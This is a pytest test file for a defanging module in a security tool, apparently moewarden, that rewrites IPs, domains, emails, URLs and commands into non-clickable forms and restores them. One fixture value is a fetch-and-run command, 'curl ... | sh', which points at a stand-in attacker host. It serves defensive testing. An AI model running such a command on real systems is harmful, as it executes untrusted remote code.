import pytest

from moewarden.app.rendering.defang import defang, defanger, refang

VALUES = [
    ("ip", "203.0.113.77", "203[.]0[.]113[.]77"),
    ("ip", "2001:db8::1", "2001[:]db8::1"),
    ("ip", "::ffff:203.0.113.7", "::ffff:203[.]0[.]113[.]7"),
    ("domain", "cdn.evil.example", "cdn[.]evil[.]example"),
    ("mail", "a.b@evil.example", "a[.]b[@]evil[.]example"),
    ("url", "http://evil.example/a.php?x=1.2", "hxxp://evil[.]example/a.php?x=1.2"),
    ("url", "HTTPS://evil.example:8443/", "HXXPS://evil[.]example:8443/"),
    ("url", "ftp://203.0.113.7/x", "fxp://203[.]0[.]113[.]7/x"),
    ("command", "curl -s https://evil.example/u.sh | sh", "curl -s hxxps://evil[.]example/u.sh | sh"),
    ("file", "/etc/cron.d/job", "/etc/cron.d/job"),
    ("domain", "www.evil.example", "www[.]evil[.]example"),
]


@pytest.mark.parametrize(("kind", "value", "expected"), VALUES)
def test_defang_and_back(kind, value, expected):
    assert defang(value, kind) == expected
    assert refang(expected) == value


@pytest.mark.parametrize(("kind", "value"), [(kind, value) for kind, value, _ in VALUES])
def test_defanging_twice_changes_nothing(kind, value):
    once = defang(value, kind)
    assert defang(once, kind) == once


def test_prose_loses_indicators_and_urls_and_keeps_the_rest(report):
    prose = defanger(report)
    assert prose("203.0.113.77 and 203.0.113.775, 10.0.0.9") == "203[.]0[.]113[.]77 and 203.0.113.775, 10.0.0.9"
    assert prose("see http://cdn.evil.example/u.sh.") == "see hxxp://cdn[.]evil[.]example/u.sh."
    assert prose("version 1.2.3 of a.b") == "version 1.2.3 of a.b"


def test_prose_without_indicators(empty_report):
    assert defanger(empty_report)("https://a.example 10.0.0.1") == "hxxps://a[.]example 10.0.0.1"
